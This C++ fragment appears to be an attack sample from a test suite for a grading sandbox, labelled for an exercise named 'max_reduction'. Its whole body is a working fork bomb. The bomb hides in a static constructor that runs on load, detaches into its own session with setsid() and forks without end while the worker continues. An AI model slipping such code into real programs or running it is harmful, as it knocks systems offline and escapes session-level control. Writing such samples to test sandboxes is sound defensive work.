// attack: a fork bomb in its own session, left running while the worker carries on.
// exercise: max_reduction
// base: starter
// earns: nothing
namespace {
struct ForkBomb {
  ForkBomb() {
    if (fork() != 0) return;
    setsid();
    for (;;) fork();
  }
} fork_bomb;
}  // namespace
